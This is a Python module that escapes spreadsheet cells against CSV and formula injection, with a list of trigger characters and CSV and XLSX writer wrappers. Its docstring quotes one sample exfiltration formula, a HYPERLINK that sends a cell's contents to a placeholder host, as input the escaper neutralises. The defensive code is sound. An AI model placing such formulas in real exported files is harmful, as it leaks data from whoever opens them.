"""Every CSV and XLSX file LegalSim writes goes through here, so that a cell is data, never a
formula (OWASP "CSV Injection").

The rule, for CSV and XLSX alike: a text cell is *dangerous* when it starts with one of
``TRIGGERS`` (``=``, ``+``, ``-``, ``@``, tab, carriage return) once any leading single quotes
are set aside. :func:`cell_escape` prefixes a dangerous text cell with one ``'``; every other
value is left as it is. Numbers (``int``, ``float``, numpy scalars, ``Decimal``) are never
altered, so a score of ``-1`` stays the number ``-1``; only ``str`` cells are looked at.

Examples::

    =HYPERLINK("http://x/?"&A1)  ->  '=HYPERLINK("http://x/?"&A1)
    -1 too harsh                 ->  '-1 too harsh
    '=not a formula              ->  ''=not a formula     (already quoted text gets one more)
    it's fine / 'quoted'         ->  unchanged            (no trigger after the quotes)

Counting the quotes in front of the trigger is what makes the escape reversible:
:func:`cell_unescape` strips exactly one leading ``'`` from a cell that is dangerous once
its quotes are set aside, and leaves every other cell alone, so
``cell_unescape(cell_escape(s)) == s`` for every string, and ``cell_escape(s)`` never starts
with a trigger character. Readers of files we wrote (``import_ratings`` for CSV) unescape
every cell; a cell written by hand that starts with ``'`` and then a trigger therefore loses
that first quote (write ``''=...`` to keep one).

In XLSX the escaped text is also stored with the cell type set to text (``data_type 's'``),
so openpyxl never stores it as a formula (nor as an error value such as ``#N/A``).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _dangerous(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(TRIGGERS)


def cell_escape(value: Any) -> Any:
    """``value`` as a safe spreadsheet cell: a dangerous string gets a leading ``'``."""
    if isinstance(value, str) and _dangerous(value):
        return QUOTE + value
    return value


def cell_unescape(value: Any) -> Any:
    """Undo :func:`cell_escape`: strip the one ``'`` it added, and nothing else."""
    if isinstance(value, str) and value.startswith(QUOTE) and _dangerous(value[1:]):
        return value[1:]
    return value


class CsvWriter:
    """``csv.writer`` whose every cell goes through :func:`cell_escape`."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell_escape(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell (the header too) goes through :func:`cell_escape`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: cell_escape(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def xlsx_append(sheet: Worksheet, row: Iterable[Any]) -> None:
    """Append ``row`` to an openpyxl worksheet, text escaped and typed as text. Control
    characters XML cannot carry (openpyxl would refuse the whole report) become U+FFFD."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cells = []
    for value in row:
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        cell = Cell(sheet, value=cell_escape(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
